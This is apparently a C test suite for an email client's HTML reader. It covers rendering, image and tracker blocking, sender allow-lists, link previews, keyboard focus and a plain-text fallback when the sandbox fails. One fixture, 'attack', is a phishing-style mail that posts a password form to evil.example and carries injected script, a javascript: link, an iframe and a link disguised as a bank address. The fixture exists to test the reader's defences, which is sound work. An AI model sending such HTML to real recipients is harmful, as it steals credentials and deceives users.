/* SPDX-License-Identifier: GPL-3.0-or-later */

/* HTML mail in the reader. With --refused there is no sandbox for it. */

#include "ph-body.h"
#include "ph-html-body.h"
#include "ph-reader.h"
#include "ph-senders-group.h"
#include "ph-settings.h"
#include "ph-text-view.h"
#include "ph-ui.h"
#include "sandbox-needed.h"
#include "ui-input.h"
#include "ui-test.h"

#include <adwaita.h>
#include <glib/gstdio.h>

typedef struct
{
  PhReader *reader;
  PhHtmlBody *html;
  GtkWindow *window;
  guint n_shown;
  guint n_seen;
} Fixture;

static void
count_cb (guint *count)
{
  (*count)++;
}

static void
set_up (Fixture *fixture, gconstpointer data)
{
  fixture->reader = PH_READER (ph_reader_new ());
  fixture->html = ui_test_find (GTK_WIDGET (fixture->reader), PH_TYPE_HTML_BODY, NULL);
  g_signal_connect_swapped (fixture->html, "shown", G_CALLBACK (count_cb), &fixture->n_shown);
  g_signal_connect_swapped (fixture->reader, "seen", G_CALLBACK (count_cb), &fixture->n_seen);
  fixture->window = ui_test_show (GTK_WIDGET (fixture->reader), 760, 800);
}

static void
tear_down (Fixture *fixture, gconstpointer data)
{
  g_settings_reset (ph_settings_get (), "image-senders");
  gtk_window_destroy (fixture->window);
  ui_test_settle ();
}

static void
fill (Fixture *fixture, const char *subject, const char *raw)
{
  StoreRow *row = g_new0 (StoreRow, 1);
  g_autoptr (GBytes) bytes = g_bytes_new (raw, strlen (raw));
  g_autoptr (PhMessage) message = NULL;

  row->id = row->message_id = 1;
  row->subject = g_strdup (subject);
  row->from_name = g_strdup ("Orchard & Press");
  row->from_address = g_strdup ("News@Orchard.example");
  row->to_short = g_strdup ("");
  row->preview = g_strdup ("");
  row->date = 1771855500;
  message = ph_message_new_for_row (1, row, FALSE);
  ph_reader_set_message (fixture->reader, message);
  ph_reader_show_body (fixture->reader, ph_body_new_for_message (bytes));
}

static gboolean
is_shown (gpointer user_data)
{
  return ((Fixture *) user_data)->n_shown > 0;
}

static gboolean
was_seen (gpointer user_data)
{
  return ((Fixture *) user_data)->n_seen > 0;
}

static void
await_shown (Fixture *fixture)
{
  fixture->n_shown = 0;
  ui_test_wait (is_shown, fixture);
}

/* What the web process paints comes when it comes. */
static void
shoot (Fixture *fixture, const char *name)
{
  if (g_getenv ("UI_TEST_SHOTS") == NULL)
    return;

  ui_test_let_pass (500);
  ui_test_shoot (fixture->window, name);
}

static const char *
get_page (Fixture *fixture)
{
  return gtk_stack_get_visible_child_name (
    ui_test_find (GTK_WIDGET (fixture->reader), GTK_TYPE_STACK, "ways"));
}

static gboolean
has_bar (Fixture *fixture)
{
  return gtk_widget_get_visible (ui_test_find (GTK_WIDGET (fixture->html), GTK_TYPE_BOX,
                                               "images_bar"));
}

static const char newsletter[]
  = "Content-Type: multipart/alternative; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: text/plain\r\n\r\nThe spring letter, plain.\r\n"
    "--b\r\nContent-Type: multipart/related; boundary=r\r\n\r\n"
    "--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    "<html><head><style>h1 { color: #26a269; font-family: serif } .b { background: #26a269; color: "
    "white; padding: 10px 18px; border-radius: 6px; text-decoration: none; display: inline-block }"
    "</style></head><body bgcolor='#f6f5f4'><table width='100%' bgcolor='#f6f5f4'><tr><td align=center>"
    "<table width=560 bgcolor=white cellpadding=24 style='max-width:100%'><tr><td>"
    "<img src='cid:logo@orchard' width=48 height=48 alt='Orchard'>"
    "<h1>The spring letter</h1><p>Dear friends, the <b>ladders</b> are in the barn, and the first trees "
    "are in bloom. Grüße aus dem Obstgarten! This is what the year holds:</p>"
    "<ul><li>Pruning, until the end of March</li><li>Grafting with Jonas</li><li>The great harvest</li></ul>"
    "<p><img src='https://images.orchard.example/trees.jpg' width=500 height=120 alt='Trees in bloom'></p>"
    "<p><a class=b href='https://orchard.example/plan'>See the plan</a></p>"
    "<p style='color:#777;font-size:12px'>You get this letter because you asked for it. "
    "<a href='https://tracker.example/x'>www.orchard.example</a></p>"
    "<img src='https://count.orchard.example/open.gif' width=1 height=1>"
    "</td></tr></table></td></tr></table></body></html>\r\n"
    "--r\r\nContent-Type: image/png\r\nContent-ID: <logo@orchard>\r\nContent-Transfer-Encoding: base64\r\n"
    "\r\niVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGNQW5SJFTEMLQkAurtMQddCzdYAAAAASUVORK5CYII=\r\n"
    "--r--\r\n--b--\r\n";

static const char attack[]
  = "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    "<script>document.body.innerHTML = 'taken over'</script><meta http-equiv=refresh content='0;url="
    "https://evil.example/'><link rel=stylesheet href='https://evil.example/a.css'>"
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/b)'>"
    "<h2>Your account is closed</h2><form action='https://evil.example/'><input name=password>"
    "<button>Sign in</button></form><p onclick='x()'>Click "
    "<a href='https://evil.example/login'>https://bank.example/</a>, "
    "<a href='javascript:alert(1)'>here</a> or <iframe src='https://evil.example/'></iframe></p></div>"
    "<!-- \r\n"
    "--b\r\nContent-Type: text/plain\r\n\r\n--> A footer of the list, see https://list.example/ <b>&\r\n--b--\r\n";

static void
test_newsletter (Fixture *fixture, gconstpointer data)
{
  g_object_set (fixture->reader, "mark-read-delay", 20, NULL);
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  g_assert_true (has_bar (fixture));
  ui_test_wait (was_seen, fixture);
  shoot (fixture, "html-newsletter");

  gtk_window_set_default_size (fixture->window, 360, 760);
  shoot (fixture, "html-newsletter-narrow");
}

static void
test_attack (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "Important!", attack);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");
  shoot (fixture, "html-attack");
}

/* What is shown stays so in the dark, and the mail's own colours come back when they are wanted. */
static void
test_dark (Fixture *fixture, gconstpointer data)
{
  AdwStyleManager *style = adw_style_manager_get_default ();

  adw_style_manager_set_color_scheme (style, ADW_COLOR_SCHEME_FORCE_DARK);
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  shoot (fixture, "html-newsletter-dark");
  g_object_set (fixture->reader, "original-colors", TRUE, NULL);
  await_shown (fixture);
  shoot (fixture, "html-newsletter-original");
  adw_style_manager_set_color_scheme (style, ADW_COLOR_SCHEME_DEFAULT);
}

static void
test_switch (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_object_set (fixture->reader, "formatted", FALSE, NULL);
  g_assert_cmpstr (get_page (fixture), ==, "text");
  g_assert_false (has_bar (fixture));
  g_object_set (fixture->reader, "formatted", TRUE, NULL);
  await_shown (fixture);
  g_assert_cmpstr (get_page (fixture), ==, "html");

  fill (fixture, "Plain", "Content-Type: text/plain\r\n\r\nHello\r\n");
  g_assert_cmpstr (get_page (fixture), ==, "text");
}

static gboolean
has_offer (Fixture *fixture)
{
  return gtk_widget_get_visible (
    ui_test_find (GTK_WIDGET (fixture->html), ADW_TYPE_SPLIT_BUTTON, NULL));
}

static void
test_images (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  gtk_widget_activate_action (GTK_WIDGET (fixture->html), "html.show-images", NULL);
  g_assert_false (has_offer (fixture));
  await_shown (fixture);

  /* It was for that message alone. */
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_true (has_bar (fixture));

  gtk_widget_activate_action (GTK_WIDGET (fixture->html), "html.always-show-images", "s",
                              "news@orchard.example");
  await_shown (fixture);
  g_assert_true (ph_settings_list_contains (ph_settings_get (), "image-senders",
                                            "news@orchard.example"));
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_false (has_bar (fixture));

  ph_settings_list_set (ph_settings_get (), "image-senders", "news@orchard.example", FALSE);
  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  g_assert_true (has_bar (fixture));
}

/* All of a domain, and what is below it. */
static void
test_domain (Fixture *fixture, gconstpointer data)
{
  const char *const documents[] = { "<img src='https://images.example/a.png'>", NULL };

  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  gtk_widget_activate_action (GTK_WIDGET (fixture->html), "html.always-show-images", "s",
                              "@orchard.example");
  await_shown (fixture);
  ph_html_body_show (fixture->html, documents, NULL, "Else@shop.Orchard.example");
  await_shown (fixture);
  g_assert_false (has_bar (fixture));
  ph_html_body_show (fixture->html, documents, NULL, "news@myorchard.example");
  await_shown (fixture);
  g_assert_true (has_bar (fixture));
}

static gboolean
has_text (GtkWidget *widget, gpointer text)
{
  return GTK_IS_LABEL (widget) && g_str_equal (gtk_label_get_text (GTK_LABEL (widget)), text);
}

/* What only counts is counted, and stays away when the others are shown. */
static void
test_trackers (Fixture *fixture, gconstpointer data)
{
  const char *const documents[]
    = { "<img src='https://images.example/a.png' width=200>"
        "<img src='https://images.example/b.png' width=1 height=1>"
        "<img src='https://www.google-analytics.com/collect?a=1' width=200>",
        NULL };
  const char *blocked = "1 image from the internet is not shown. ";
  const char *trackers
    = "2 images that only tell the sender of your reading are never fetched.";
  g_autofree char *both = g_strconcat (blocked, trackers, NULL);

  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  ph_html_body_show (fixture->html, documents, NULL, "news@orchard.example");
  await_shown (fixture);
  g_assert_nonnull (ui_input_find (GTK_WIDGET (fixture->html), has_text, both));

  gtk_widget_activate_action (GTK_WIDGET (fixture->html), "html.show-images", NULL);
  await_shown (fixture);
  g_assert_false (has_offer (fixture));
  g_assert_nonnull (ui_input_find (GTK_WIDGET (fixture->html), has_text, (gpointer) trackers));
}

/* The menu names the sender, whatever the address is made of. */
static void
test_sender_in_menu (Fixture *fixture, gconstpointer data)
{
  const char *const documents[] = { "<img src='https://images.example/a.png'>", NULL };
  AdwSplitButton *button
    = ui_test_find (GTK_WIDGET (fixture->html), ADW_TYPE_SPLIT_BUTTON, NULL);

  fill (fixture, "The spring letter", newsletter);
  await_shown (fixture);
  ph_html_body_show (fixture->html, documents, NULL, "Spring_Letter@Orchard.example");
  await_shown (fixture);
  adw_split_button_popup (button);
  ui_test_settle ();
  g_assert_nonnull (ui_input_find (GTK_WIDGET (button), has_text,
                                   (gpointer) "Always for spring_letter@orchard.example"));
  adw_split_button_popdown (button);
}

static gboolean
is_revoke_button (GtkWidget *widget, gpointer data)
{
  return GTK_IS_BUTTON (widget);
}

/* Who may show images can be taken off again. */
static void
test_senders (void)
{
  const char *const senders[] = { "@sea.example", "news@orchard.example", NULL };
  GtkWidget *group;
  GtkWindow *window;
  g_auto (GStrv) left = NULL;

  g_settings_set_strv (ph_settings_get (), "image-senders", senders);
  group = g_object_new (PH_TYPE_SENDERS_GROUP, "margin-start", 18, "margin-end", 18, NULL);
  window = ui_test_show (group, 500, 300);
  ui_test_shoot (window, "image-senders");
  g_assert_nonnull (ui_input_find (group, has_text, (gpointer) "Everybody at sea.example"));
  g_signal_emit_by_name (ui_input_find (group, is_revoke_button, NULL), "clicked");
  left = g_settings_get_strv (ph_settings_get (), "image-senders");
  g_assert_cmpuint (g_strv_length (left), ==, 1);
  g_assert_cmpstr (left[0], ==, "news@orchard.example");
  g_signal_emit_by_name (ui_input_find (group, is_revoke_button, NULL), "clicked");
  g_assert_null (ui_input_find (group, is_revoke_button, NULL));
  gtk_window_destroy (window);
}

static gboolean
has_focus (gpointer user_data)
{
  return ph_html_body_has_focus (((Fixture *) user_data)->html);
}

static gboolean
has_left (gpointer user_data)
{
  return !has_focus (user_data);
}

static void
next_unread_cb (GSimpleAction *action, GVariant *parameter, gpointer user_data)
{
  (*(guint *) user_data)++;
}

static gboolean
is_counted (gpointer user_data)
{
  return *(guint *) user_data > 0;
}

typedef struct
{
  char *uri;
  gboolean deceptive;
} Activated;

static void
activated_cb (Activated *activated, const char *uri, gboolean deceptive)
{
  activated->uri = g_strdup (uri);
  activated->deceptive = deceptive;
}

static gboolean
is_activated (gpointer user_data)
{
  return ((Activated *) user_data)->uri != NULL;
}

static gboolean
hovers (gpointer user_data)
{
  return ph_html_body_get_hovered_link (user_data) != NULL;
}

static void
test_link (Fixture *fixture, const char *html, const char *uri, gboolean deceptive)
{
  g_autofree char *raw = g_strdup_printf ("Content-Type: text/html\r\n\r\n%s", html);
  Activated activated = { NULL };
  gulong handler;
  UiPlace place;

  fill (fixture, "Links", raw);
  await_shown (fixture);
  /* The reader's own answer needs a desktop. */
  g_signal_handlers_block_matched (fixture->html, G_SIGNAL_MATCH_DATA, 0, 0, NULL, NULL,
                                   fixture->reader);
  handler = g_signal_connect_swapped (fixture->html, "activate-link", G_CALLBACK (activated_cb),
                                      &activated);
  place = ui_input_find_place (GTK_WIDGET (fixture->html));
  ui_input_run ("mousemove %d %d", place.x, place.y - 20);
  ui_input_run ("mousemove %d %d", place.x, place.y);
  ui_test_wait (hovers, fixture->html);
  g_assert_cmpstr (ph_html_body_get_hovered_link (fixture->html), ==, uri);
  g_assert_null (activated.uri);
  ui_input_click (place, NULL);
  ui_test_wait (is_activated, &activated);
  g_assert_cmpstr (activated.uri, ==, uri);
  g_assert_cmpint (activated.deceptive, ==, deceptive);
  g_signal_handler_disconnect (fixture->html, handler);
  g_free (activated.uri);
}

#define LINK(attributes, text) \
  "<a " attributes " style='display:block;height:2000px'>" text "</a>"

/* Where a link leads is told before, and it is opened by a click alone; a link that says that it is
 * another is known, however it is written. */
static void
test_links (Fixture *fixture, gconstpointer data)
{
  test_link (fixture, LINK ("href='https://orchard.example'", "the plan"),
             "https://orchard.example/", FALSE);
  test_link (fixture, LINK ("href='HTTPS://Evil.example:443/a b?%c3%bc=ü'", "https://bank.example/"),
             "https://evil.example/a%20b?%c3%bc=%C3%BC", TRUE);
}

static gboolean
key_cb (guint *count, guint keyval)
{
  *count += keyval == GDK_KEY_n;
  return GDK_EVENT_PROPAGATE;
}

/* Space leads through the message and then on; the keys of the window work; Tab leads out of it. */
static void
test_keys (Fixture *fixture, gconstpointer data)
{
  guint n_next = 0, n_keys = 0;
  GtkEventController *keys = gtk_event_controller_key_new ();
  const GActionEntry entry = { "next-unread", next_unread_cb };
  g_autoptr (GSimpleActionGroup) actions = g_simple_action_group_new ();
  g_autoptr (GString) raw = g_string_new ("Content-Type: text/html\r\n\r\n<a href=http://a.example>a</a>");

  for (guint i = 0; i < 60; i++)
    g_string_append (raw, "<p>A line of the long letter.</p>");
  g_action_map_add_action_entries (G_ACTION_MAP (actions), &entry, 1, &n_next);
  gtk_widget_insert_action_group (GTK_WIDGET (fixture->window), "win", G_ACTION_GROUP (actions));
  fill (fixture, "Long", raw->str);
  await_shown (fixture);
  ui_input_focus (fixture->window);
  ph_reader_focus (fixture->reader);
  ui_test_wait (has_focus, fixture);

  for (guint i = 0; i < 50 && n_next == 0; i++)
    {
      ui_input_press ("space");
      ui_test_settle ();
      if (i == 0)
        g_assert_cmpuint (n_next, ==, 0);
    }
  ui_test_wait (is_counted, &n_next);

  g_signal_connect_swapped (keys, "key-pressed", G_CALLBACK (key_cb), &n_keys);
  gtk_widget_add_controller (GTK_WIDGET (fixture->window), keys);
  ui_input_press ("n");
  ui_test_wait (is_counted, &n_keys);
  gtk_widget_remove_controller (GTK_WIDGET (fixture->window), keys);

  for (guint i = 0; i < 5 && has_focus (fixture); i++)
    {
      ui_input_press ("Tab");
      ui_test_let_pass (200);
    }
  ui_test_wait (has_left, fixture);
}

static gboolean
is_loaded (void)
{
  g_autofree char *maps = NULL;

  g_assert_true (g_file_get_contents ("/proc/self/maps", &maps, NULL, NULL));
  return strstr (maps, "libwebkitgtk") != NULL;
}

/* The first of all: nobody who reads text pays for WebKit. */
static void
test_text_alone (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "Plain", "Content-Type: text/plain\r\n\r\nHello\r\n");
  ui_test_settle ();
  g_assert_false (is_loaded ());
}

static gboolean
reads_text (gpointer user_data)
{
  return g_strcmp0 (get_page (user_data), "text") == 0;
}

static gboolean
says_why (GtkWidget *widget, gpointer data)
{
  return GTK_IS_LABEL (widget) && gtk_widget_is_visible (widget)
         && strstr (gtk_label_get_label (GTK_LABEL (widget)), "Creating new namespace failed");
}

/* Reads in plain text, and says why. */
static void
test_refused (Fixture *fixture, gconstpointer data)
{
  fill (fixture, "The spring letter", newsletter);
  ui_test_wait (reads_text, fixture);
  g_assert_nonnull (ui_input_find (GTK_WIDGET (fixture->reader), says_why, NULL));
  g_assert_false (is_loaded ());
  shoot (fixture, "html-refused");

  fill (fixture, "Plain", "Content-Type: text/plain\r\n\r\nHello\r\n");
  ui_test_wait (reads_text, fixture);
  g_assert_null (ui_input_find (GTK_WIDGET (fixture->reader), says_why, NULL));
}

/* As where user namespaces are forbidden. */
static void
refuse_sandbox (void)
{
  g_autofree char *folder = g_dir_make_tmp ("refused-XXXXXX", NULL);
  g_autofree char *program = g_build_filename (folder, "bwrap", NULL);
  g_autofree char *path = g_strdup_printf ("%s:%s", folder, g_getenv ("PATH"));

  g_assert_true (g_file_set_contents (
    program, "#!/bin/sh\necho 'bwrap: Creating new namespace failed' >&2\nexit 1\n", -1, NULL));
  g_assert_cmpint (g_chmod (program, 0700), ==, 0);
  g_setenv ("PATH", path, TRUE);
}

static void
add (const char *path, void (*func) (Fixture *, gconstpointer))
{
  g_test_add (path, Fixture, NULL, set_up, func, tear_down);
}

int
main (int argc, char *argv[])
{
  gboolean refused = argc > 1 && g_str_equal (argv[1], "--refused");

  if (refused)
    refuse_sandbox ();
  gtk_test_init (&argc, &argv, NULL);
  /* WebKit warns that there is no graphics card. */
  g_log_set_always_fatal (G_LOG_FATAL_MASK | G_LOG_LEVEL_CRITICAL);
  ph_ui_init ();

  if (refused)
    {
      add ("/html-reader/refused", test_refused);
      return g_test_run ();
    }

  sandbox_needed ();
  add ("/html-reader/text-alone", test_text_alone);
  add ("/html-reader/newsletter", test_newsletter);
  add ("/html-reader/attack", test_attack);
  add ("/html-reader/dark", test_dark);
  add ("/html-reader/switch", test_switch);
  add ("/html-reader/images", test_images);
  add ("/html-reader/domain", test_domain);
  add ("/html-reader/trackers", test_trackers);
  add ("/html-reader/sender-in-menu", test_sender_in_menu);
  g_test_add_func ("/html-reader/senders", test_senders);
  add ("/html-reader/links", test_links);
  add ("/html-reader/keys", test_keys);

  return g_test_run ();
}
